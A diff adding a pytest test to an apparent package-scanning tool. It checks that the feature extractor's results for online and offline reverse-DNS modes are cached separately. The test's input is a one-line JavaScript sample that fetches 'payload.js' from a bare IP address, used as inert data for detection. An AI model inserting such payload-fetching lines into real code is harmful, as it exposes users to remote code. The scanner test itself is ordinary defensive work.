@@ -0,0 +1,41 @@
+import os
+import sys
+
+sys.path.insert(0, os.path.join(os.path.dirname(__file__), "..", "Analysis Codes"))
+
+import extract_features  # noqa: E402
+import rdns_cache  # noqa: E402
+from result_cache import FileResultCache  # noqa: E402
+from result_store import PackageOutputs  # noqa: E402
+
+SOURCE = b'fetch("http://93.184.216.34/payload.js");\n'
+
+
+def _scan(tmp_path, cache, offline):
+    extract_features.configure_rdns(str(tmp_path / "rdns"), offline)
+    outputs = PackageOutputs(str(tmp_path / ("offline" if offline else "online")))
+    extract_features.extract_for_buffer(
+        "index.js", "index.js", SOURCE, outputs, str(tmp_path / "seg"), cache=cache,
+    )
+    outputs.close()
+
+
+def test_offline_scan_does_not_reuse_online_result(tmp_path, monkeypatch):
+    # No DNS traffic: the online scan's live lookups go to a stub
+    looked_up = []
+    monkeypatch.setattr(
+        rdns_cache, "resolve", lambda ip: looked_up.append(ip) or "example.com"
+    )
+    cache = FileResultCache(str(tmp_path / "cache"), "run")
+    try:
+        _scan(tmp_path, cache, offline=False)
+        assert looked_up == ["93.184.216.34"]
+        _scan(tmp_path, cache, offline=True)
+        assert (cache.hits, cache.misses) == (0, 2)
+
+        # Same mode, same bytes: served from the cache
+        _scan(tmp_path, cache, offline=True)
+        assert cache.hits == 1
+    finally:
+        cache.close()
+        extract_features.configure_rdns(None, False)